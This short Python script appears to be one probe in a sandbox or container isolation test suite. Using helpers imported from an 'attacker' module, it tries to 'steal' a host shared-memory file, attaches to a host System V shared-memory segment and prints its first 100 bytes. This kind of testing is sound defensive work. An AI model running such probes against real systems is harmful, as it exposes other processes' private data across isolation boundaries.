"""Reads shared memory of the host: System V segments, /dev/shm, message queues."""

import ctypes

from attacker import host, libc, show, steal, tried

UNPROTECTED = "escapes"

tried(host["shm_file"])
steal(host["shm_file"])
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(host["shm_id"], None, 0o10000)
if place not in (None, ctypes.c_void_p(-1).value):
    show(ctypes.string_at(place, 100))
    libc.shmdt(ctypes.c_void_p(place))
